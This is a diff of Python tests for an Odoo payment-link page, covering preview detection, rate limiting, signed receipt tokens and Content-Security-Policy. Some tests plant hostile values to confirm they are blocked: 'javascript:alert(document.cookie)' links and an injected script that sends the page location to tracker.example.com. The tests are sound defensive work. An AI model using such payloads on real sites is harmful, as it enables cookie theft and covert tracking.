@@ -1,15 +1,19 @@
 # License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
+import base64
+import hashlib
 import json
 import re
 from datetime import timedelta
+from unittest.mock import patch
 
 from freezegun import freeze_time
 
 from odoo import fields
+from odoo.exceptions import UserError
 from odoo.tests import tagged
 from odoo.tools import mute_logger
 
-from .. import const
+from .. import const, utils
 from .common import PaymentLinkCommon
 
 # The page's CSRF token carries a timestamp: the only part allowed to differ between misses.
@@ -38,9 +42,31 @@ class PayPageCommon(PaymentLinkCommon):
         # page is checked by TestPayPage.test_page_in_the_customer_language).
         self.link.sudo().lang = "en_US"
 
-    def open_page(self, token=None, **params):
+    def open_page(self, token=None, person=True, **params):
+        """GET the page; as a person's browser does, its script then signals it was shown
+        (``person=False``: the GET alone, as a link previewer does)."""
         token = self.token if token is None else token
-        return self.url_open(f"/pay/{token}", allow_redirects=False, **params)
+        response = self.url_open(f"/pay/{token}", allow_redirects=False, **params)
+        if person and "o_payment_link_beacon" in response.text:
+            user_agent = (params.get("headers") or {}).get("User-Agent")
+            self.signal_opened(token, user_agent=user_agent)
+        return response
+
+    def json_call(self, route, headers=None, **params):
+        """Call one of our JSON routes as the page's script does; return the JSON answer."""
+        response = self.url_open(
+            route,
+            data=json.dumps({"jsonrpc": "2.0", "method": "call", "id": 1, "params": params}),
+            headers={"Content-Type": "application/json", **(headers or {})},
+        )
+        return response.json()
+
+    def signal_opened(self, token=None, user_agent=None):
+        """The page's signal that it was shown to a person (what its script sends)."""
+        headers = {"User-Agent": user_agent} if user_agent else {}
+        return self.json_call(
+            "/pay/opened", headers=headers, access_token=self.token if token is None else token
+        )
 
     def pay_rpc(self, token=None, provider=None, amount=None, **params):
         """Call the transaction route as the payment form does; return the JSON answer."""
@@ -79,8 +105,17 @@ class PayPageCommon(PaymentLinkCommon):
 @tagged("post_install", "-at_install")
 class TestPayPage(PayPageCommon):
     def test_page_shows_the_invoice_and_marks_the_link_opened(self):
-        response = self.open_page(headers={"User-Agent": "Mozilla/5.0 (iPhone) Test"})
+        iphone = {"User-Agent": "Mozilla/5.0 (iPhone) Test"}
+        response = self.open_page(headers=iphone, person=False)
         self.assertEqual(response.status_code, 200)
+        self.assertEqual(self.link.state, "sent", "the GET alone is not a person's opening")
+        self.assertIn(
+            f'class="d-none o_payment_link_beacon" data-token="{self.token}"', response.text
+        )
+        self.assertEqual(
+            self.signal_opened(user_agent=iphone["User-Agent"]),
+            {"jsonrpc": "2.0", "id": 1, "result": {}},
+        )
         self.assertEqual(response.headers["Referrer-Policy"], "no-referrer")
         self.assertIn("noindex", response.headers["X-Robots-Tag"])
         self.assertIn("no-store", response.headers["Cache-Control"])
@@ -111,23 +146,113 @@ class TestPayPage(PayPageCommon):
             "Payment link", self.invoice.message_ids.filtered(lambda m: m.subject)[:1].subject
         )
 
-    def test_reopenings_are_audited_once_per_browser_and_minute(self):
+    def test_reopenings_are_audited_once_per_browser_and_hour(self):
         iphone, android = "Mozilla/5.0 (iPhone) Test", "Mozilla/5.0 (Android) Test"
-        self.open_page(headers={"User-Agent": iphone})
-        self.open_page(headers={"User-Agent": iphone})
-        self.open_page(headers={"User-Agent": android})
-        self.open_page(headers={"User-Agent": android})
+        for agent in (iphone, iphone, android, android, iphone):
+            self.open_page(headers={"User-Agent": agent})
 
         def openings():
             events = self.link.event_ids.filtered(lambda e: e.event_type == "opened")
             return events.sorted("id").mapped("user_agent")
 
         self.assertEqual(openings(), [iphone, android], "a reload is not a new opening")
-        later = fields.Datetime.now() + timedelta(seconds=const.OPEN_EVENT_DEBOUNCE_SECONDS + 1)
-        with freeze_time(later):
+        window = timedelta(minutes=const.AUDIT_WINDOW_MINUTES)
+        with freeze_time(fields.Datetime.now() + window / 2):
+            self.open_page(headers={"User-Agent": android})
+        self.assertEqual(openings(), [iphone, android], "the same browser within the hour")
+        with freeze_time(fields.Datetime.now() + window + timedelta(minutes=1)):
             self.open_page(headers={"User-Agent": android})
         self.assertEqual(openings(), [iphone, android, android])
         self.assertEqual(self.link.state, "opened")
+
+    def test_changing_user_agents_cannot_flood_the_trail(self):
+        for index in range(const.AUDIT_EVENTS_PER_WINDOW * 2):
+            self.signal_opened(user_agent=f"Mozilla/5.0 (Flood {index})")
+            self.open_page(headers={"User-Agent": f"WhatsApp/2.{index}"}, person=False)
+        types = self.link.event_ids.mapped("event_type")
+        self.assertEqual(types.count("opened"), const.AUDIT_EVENTS_PER_WINDOW)
+        self.assertEqual(types.count("preview"), const.AUDIT_EVENTS_PER_WINDOW)
+        with freeze_time(fields.Datetime.now() + timedelta(minutes=const.AUDIT_WINDOW_MINUTES + 1)):
+            self.signal_opened(user_agent="Mozilla/5.0 (Next hour)")
+        self.assertEqual(
+            self.link.event_ids.mapped("event_type").count("opened"),
+            const.AUDIT_EVENTS_PER_WINDOW + 1,
+        )
+
+    def test_link_previewers_are_recorded_as_previews_without_notification(self):
+        self.link.sudo().sender_id = self.billing_user
+        previewers = {
+            "iMessage": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 "
+            "(KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 "
+            "Facebot Twitterbot/1.0",
+            "WhatsApp": "WhatsApp/2.23.20.0 A",
+            "Gmail proxy": "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 "
+            "(via ggpht.com GoogleImageProxy)",
+            "Slack": "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
+            "Teams": "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 "
+            "skype-url-preview@microsoft.com",
+            "Outlook": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) BingPreview/1.0b",
+        }
+        browser = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0) Mobile/15E148 Safari/604.1"
+        requests = [
+            *(
+                (name, lambda agent=agent: self.open_page(headers={"User-Agent": agent}))
+                for name, agent in previewers.items()
+            ),
+            # Request shapes: HEAD, and the prefetch headers of browsers and mail scanners.
+            (
+                "HEAD",
+                lambda: self.url_open(
+                    f"/pay/{self.token}", head=True, headers={"User-Agent": browser}
+                ),
+            ),
+            *(
+                (
+                    header,
+                    lambda header=header, value=value: self.open_page(
+                        headers={"User-Agent": browser, header: value}, person=False
+                    ),
+                )
+                for header, value in (
+                    ("Purpose", "prefetch"),
+                    ("Sec-Purpose", "prefetch;prerender"),
+                    ("X-Purpose", "preview"),
+                    ("X-Moz", "prefetch"),
+                )
+            ),
+            # A previewer that runs the page's script is still a previewer.
+            ("script", lambda: self.signal_opened(user_agent=previewers["WhatsApp"])),
+        ]
+        step = timedelta(minutes=const.AUDIT_WINDOW_MINUTES + 1)
+        for index, (name, request) in enumerate(requests, start=1):
+            with self.subTest(request=name), freeze_time(fields.Datetime.now() + index * step):
+                answer = request()
+                if not isinstance(answer, dict):
+                    self.assertEqual(answer.status_code, 200)
+                previews = self.link.event_ids.filtered(lambda e: e.event_type == "preview")
+                self.assertEqual(len(previews), index, "recorded as a preview")
+        self.assertEqual(self.link.state, "sent", "no preview opens the link")
+        self.assertFalse(self.link.opened_date)
+        events = self.link.event_ids
+        self.assertFalse(events.filtered(lambda e: e.event_type == "opened"))
+        self.assertIn(previewers["Slack"], previews.mapped("user_agent"))
+        self.assertFalse(
+            self.invoice.message_ids.filtered(
+                lambda m: m.partner_ids & self.billing_user.partner_id
+            ),
+            "a preview notifies nobody",
+        )
+        # The person then opens it: one opening, one notification.
+        self.open_page(headers={"User-Agent": browser})
+        self.assertEqual(self.link.state, "opened")
+        self.assertEqual(
+            len(
+                self.invoice.message_ids.filtered(
+                    lambda m: m.partner_ids & self.billing_user.partner_id
+                )
+            ),
+            1,
+        )
 
     def test_first_opening_notifies_salesperson_and_sender(self):
         self.link.sudo().sender_id = self.billing_user
@@ -204,8 +329,14 @@ class TestPayPage(PayPageCommon):
         self.assertEqual(response.status_code, 200)
         self.assertIn("Payment received", response.text)
         self.assertIn("Download invoice (PDF)", response.text)
-        self.assertIn(f"/my/invoices/{self.invoice.id}?access_token=", response.text)
-        self.assertIn("report_type=pdf", response.text)
+        self.assertNotIn("/my/invoices/", response.text, "not the invoice's permanent portal token")
+        pdf_url = re.search(r'href="(/pay/done/\d+/pdf\?access_token=[^"]+)"', response.text).group(
+            1
+        )
+        pdf = self.url_open(pdf_url.replace("&amp;", "&"))
+        self.assertEqual(pdf.status_code, 200)
+        self.assertEqual(pdf.headers["Content-Type"], "application/pdf")
+        self.assertIn(self.invoice.name.replace("/", "_"), pdf.headers["Content-Disposition"])
 
     def test_invoice_paid_elsewhere_shows_the_receipt_even_before_the_hook(self):
         # Payment registered without going through the hooks (e.g. data imported).
@@ -234,17 +365,117 @@ class TestPayPage(PayPageCommon):
         self.assertNotIn(f'data-provider-id="{self.demo_provider.id}"', response.text)
         self.assertNotIn("yourcompany.example.com/legal", response.text)
 
-    @mute_logger("odoo.addons.payment_link_sms.controllers.portal")
+    @mute_logger("odoo.addons.payment_link_sms.controllers.portal", "odoo.http")
     def test_repeated_misses_are_rate_limited(self):
         for _attempt in range(const.MISS_LIMIT):
             self.assertEqual(self.open_page(token="nope" * 6).status_code, 404)
         self.assertEqual(self.open_page(token="nope" * 6).status_code, 429)
-        self.assertEqual(self.open_page().status_code, 429, "even a valid token, once blocked")
-        self.assertEqual(self.link.state, "sent")
         Throttle = self.env["payment.link.throttle"].sudo()
+        rows = Throttle.search_count([])
+        self.assertEqual(self.open_page(token="nope" * 6).status_code, 429)
+        self.assertEqual(Throttle.search_count([]), rows, "a blocked address adds no rows")
+        # Other requests' misses (cross-site images, the same NAT) never refuse a valid token.
+        response = self.open_page()
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(self.link.state, "opened")
+        self.assertEqual(
+            self.pay_rpc(token="nope" * 6)["error"]["data"]["message"],
+            "Too many attempts: please wait a few minutes.",
+        )
+        self.assertIn("result", self.pay_rpc(), "a valid token pays, blocked address or not")
         self.assertFalse(Throttle._is_blocked("203.0.113.9"), "other addresses are not blocked")
         with freeze_time(fields.Datetime.now() + timedelta(minutes=const.MISS_WINDOW_MINUTES + 1)):
-            self.assertEqual(self.open_page().status_code, 200)
+            self.assertEqual(self.open_page(token="nope" * 6).status_code, 404)
+
+    @mute_logger("odoo.http")
+    def test_misses_are_counted_on_every_public_route(self):
+        Throttle = self.env["payment.link.throttle"].sudo()
+        misses = [
+            lambda: self.open_page(token="nope" * 6),
+            lambda: self.pay_rpc(token="nope" * 6),
+            lambda: self.signal_opened(token="nope" * 6),
+            lambda: self.url_open(f"/pay/done/{self.link.id}?access_token=1-forged"),
+            lambda: self.url_open(f"/pay/done/{self.link.id}/pdf?access_token=1-forged"),
+        ]
+        for index, miss in enumerate(misses, start=1):
+            answer = miss()
+            if isinstance(answer, dict):
+                self.assertEqual(
+                    answer["error"]["data"]["message"], "This payment link is not valid."
+                )
+            else:
+                self.assertEqual(answer.status_code, 404)
+            self.assertEqual(Throttle.search_count([]), index)
+        self.assertFalse(self.link.transaction_ids)
+        self.assertEqual(self.link.state, "sent")
+
+    def test_ipv6_clients_are_keyed_by_their_64(self):
+        Throttle = self.env["payment.link.throttle"].sudo()
+        for index in range(const.MISS_LIMIT):
+            Throttle._register_miss(f"2001:db8:1:2::{index + 1:x}")
+        self.assertTrue(Throttle._is_blocked("2001:db8:1:2:abcd:ef01:2345:6789"))
+        self.assertFalse(Throttle._is_blocked("2001:db8:1:3::1"), "the next /64 is someone else")
+        for _index in range(const.MISS_LIMIT):
+            Throttle._register_miss("::ffff:198.51.100.7")
+        self.assertTrue(Throttle._is_blocked("198.51.100.7"), "IPv4-mapped is the IPv4 address")
+        self.assertFalse(Throttle._is_blocked("198.51.100.8"))
+
+    def test_only_http_links_on_the_page(self):
+        self.company.website = "javascript:alert(document.cookie)"
+        self.env.cr.execute(
+            "UPDATE res_company SET payment_link_legal_url = %s WHERE id = %s",
+            ["javascript:alert(1)", self.company.id],
+        )
+        self.company.invalidate_recordset(["payment_link_legal_url"])
+        self.link.action_expire()  # the contact block with the website is on the expired page
+        body = self.open_page().text
+        self.assertNotIn("javascript:", body)
+        self.assertNotIn("Legal notice", body)
+        self.company.website = "https://www.yourcompany.example.com"
+        body = self.open_page().text
+        self.assertIn('href="https://www.yourcompany.example.com"', body)
+
+    def test_content_security_policy_and_no_framing(self):
+        response = self.open_page()
+        self.assertEqual(response.headers["X-Frame-Options"], "DENY")
+        policy = dict(
+            part.strip().split(" ", 1)
+            for part in response.headers["Content-Security-Policy"].split(";")
+        )
+        self.assertEqual(policy["frame-ancestors"], "'none'")
+        self.assertEqual(policy["object-src"], "'none'")
+        self.assertNotIn("unsafe-inline", policy["script-src"])
+        self.assertNotIn("*", policy["script-src"])
+        self.assertNotIn("https:", policy["script-src"])
+        inline = [
+            body
+            for attrs, body in re.findall(
+                r"<script([^>]*)>(.*?)</script>", response.text, re.DOTALL
+            )
+            if "src=" not in attrs and body.strip()
+        ]
+        self.assertTrue(inline, "Odoo's layout has inline scripts")
+        for body in inline:
+            digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
+            self.assertIn(f"'sha256-{digest}'", policy["script-src"], body[:80])
+        self.assertNotIn("stripe", response.headers["Content-Security-Policy"])
+        for path in ("/pay/" + "nope" * 6,):
+            self.assertIn(
+                "frame-ancestors 'none'", self.url_open(path).headers["Content-Security-Policy"]
+            )
+
+    def test_injected_inline_script_is_not_allowed(self):
+        html = (
+            '<script id="web.layout.odooscript">var odoo = {};</script>'
+            "<script>odoo.__session_info__ = {};</script>"
+            "<script>new Image().src='https://tracker.example.com/?u='+location</script>"
+            '<script src="https://www.googletagmanager.com/gtag/js"></script>'
+        )
+        policy = utils.content_security_policy(html, {"script-src": ["https://js.stripe.com"]})
+        script_src = policy.split("script-src ", 1)[1].split(";", 1)[0]
+        self.assertEqual(script_src.count("'sha256-"), 2, "only Odoo's own two inline scripts")
+        self.assertIn("https://js.stripe.com", script_src)
+        self.assertNotIn("googletagmanager", policy)
 
 
 @tagged("post_install", "-at_install")
@@ -381,3 +612,68 @@ class TestPayByLink(PayPageCommon):
         wrong = self.url_open(f"/pay/done/{self.link.id}?access_token=wrong")
         self.assertEqual(wrong.status_code, 404)
         self.assertEqual(self.url_open(tx.landing_route).status_code, 200)
+        # Signed for this link and this view: not another link's, not the PDF's.
+        token = tx.landing_route.split("access_token=", 1)[1]
+        other = self.invoice.copy()
+        other.action_post()
+        with self.mock_gateways():
+            other_link = self.link_of(self.send_link(other)[0])
+        self.assertEqual(
+            self.url_open(f"/pay/done/{other_link.id}?access_token={token}").status_code, 404
+        )
+        self.assertEqual(
+            self.url_open(f"/pay/done/{self.link.id}/pdf?access_token={token}").status_code, 404
+        )
+        expires, signature = token.split("-", 1)
+        later = f"{int(expires) + 86400}-{signature}"
+        self.assertEqual(
+            self.url_open(f"/pay/done/{self.link.id}?access_token={later}").status_code, 404
+        )
+
+    def test_landing_page_has_a_bounded_life(self):
+        tx = self.pay("done")
+        hours = const.LANDING_TOKEN_HOURS
+        with freeze_time(fields.Datetime.now() + timedelta(hours=hours - 1)):
+            self.assertEqual(self.url_open(tx.landing_route).status_code, 200)
+        with freeze_time(fields.Datetime.now() + timedelta(hours=hours, minutes=1)):
+            self.assertEqual(self.url_open(tx.landing_route).status_code, 404)
+        self.assertIn("access_token=", tx.landing_route)
+        self.assertEqual(
+            utils.mask_link_urls(f"GET {tx.landing_route} HTTP/1.1").count(
+                tx.landing_route.split("access_token=", 1)[1]
+            ),
+            0,
+        )
+
+    def test_receipt_pdf_only_for_a_paid_link_through_its_signed_route(self):
+        pdf_route = self.link._get_landing_route("pdf")
+        self.assertEqual(self.url_open(pdf_route).status_code, 404, "not paid: no receipt")
+        self.pay("done")._post_process()
+        self.assertEqual(self.link.state, "paid")
+        self.assertEqual(self.url_open(pdf_route).status_code, 200)
+        html = self.url_open(self.link._get_landing_route("html"))
+        self.assertEqual(html.status_code, 200)
+        self.assertIn(self.invoice.name, html.text)
+        self.assertIn("frame-ancestors 'none'", html.headers["Content-Security-Policy"])
+        with freeze_time(fields.Datetime.now() + timedelta(hours=const.LANDING_TOKEN_HOURS + 1)):
+            self.assertEqual(self.url_open(pdf_route).status_code, 404)
+
+    def test_receipt_without_wkhtmltopdf_offers_the_html_view(self):
+        self.pay("done")._post_process()
+        receipt = self.open_page()
+        pdf_url = re.search(r'href="(/pay/done/\d+/pdf\?access_token=[^"]+)"', receipt.text).group(
+            1
+        )
+        Report = type(self.env["ir.actions.report"])
+        error = UserError("Unable to find Wkhtmltopdf on this system. The PDF can not be created.")
+        with patch.object(Report, "_pre_render_qweb_pdf", side_effect=error):
+            response = self.url_open(pdf_url.replace("&amp;", "&"))
+        self.assertEqual(response.status_code, 503)
+        self.assertIn("The PDF cannot be produced right now", response.text)
+        self.assertNotIn("Wkhtmltopdf", response.text)
+        html_url = re.search(
+            r'href="(/pay/done/\d+/html\?access_token=[^"]+)"', response.text
+        ).group(1)
+        html = self.url_open(html_url.replace("&amp;", "&"))
+        self.assertEqual(html.status_code, 200)
+        self.assertIn(self.invoice.name, html.text)
